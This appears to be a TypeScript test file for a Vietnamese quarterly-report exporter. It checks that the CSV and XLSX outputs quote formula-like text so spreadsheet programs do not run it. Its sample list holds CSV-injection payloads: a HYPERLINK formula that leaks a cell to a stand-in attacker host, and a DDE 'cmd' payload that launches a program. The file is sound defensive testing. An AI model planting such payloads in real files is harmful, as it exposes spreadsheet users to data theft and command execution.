import ExcelJS from 'exceljs';
import type { QuarterlyReport } from '@binh-yen/report-model';
import { renderCsv } from './render-csv';
import { renderXlsx } from './render-xlsx';

/** Text a clerk may type (a plan, a unit's name) that a spreadsheet program would run as a formula. */
const HOSTILE = ['=HYPERLINK("http://attacker.invalid/?d="&A1,"Xem")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

function reportWith(texts: string[]): QuarterlyReport {
  return {
    title: 'Báo cáo quý',
    area: { path: '25.227', name: 'Thành phố Việt Trì' },
    quarter: '2026-Q3',
    periodKind: 'quarter',
    view: 'as-at-time',
    language: 'vi',
    currentAsOf: {},
    text: { period: 'Quý III/2026', view: 'Theo địa giới tại thời điểm phát sinh', currentAsOf: [] },
    sections: [
      {
        key: 'movement',
        title: 'Phong trào',
        rows: texts.map((metric, i) => ({ key: `movement.${i}`, metric, better: null, current: -i, previousQuarter: null, sameQuarterLastYear: null })),
        details: [{ heading: 'Đơn vị yếu', columns: ['Đơn vị', 'Kế hoạch'], rows: texts.map((text) => ['Phường Dữu Lâu', text]) }],
      },
    ],
  };
}

describe('exports never hand a spreadsheet program a formula (issue 23, finding 7)', () => {
  it('starts formula-like text of the XLSX with a quote, keeps numbers numbers and other text as it was', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx(reportWith([...HOSTILE, 'Tổ an ninh - khu 3']))) as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[1]!;
    const texts: string[] = [];
    const numbers: unknown[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => (typeof cell.value === 'number' ? numbers.push(cell.value) : texts.push(String(cell.value)))));
    // XML reads a carriage return back as a line feed.
    for (const hostile of HOSTILE.map((text) => text.replace('\r', '\n'))) {
      expect(texts).toContain(`'${hostile}`);
      expect(texts).not.toContain(hostile);
    }
    expect(texts).toContain('Tổ an ninh - khu 3');
    expect(numbers).toContain(-1);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
  });

  it('does the same in the CSV', () => {
    const lines = renderCsv(reportWith(HOSTILE)).split('\r\n');
    for (const hostile of HOSTILE.filter((text) => !/[\r"]/.test(text))) expect(lines.some((line) => line.includes(`,'${hostile},`))).toBe(true);
    expect(lines.some((line) => line.includes(',=HYPERLINK'))).toBe(false);
    expect(lines.some((line) => line.includes(',"\'=HYPERLINK('))).toBe(true);
  });
});
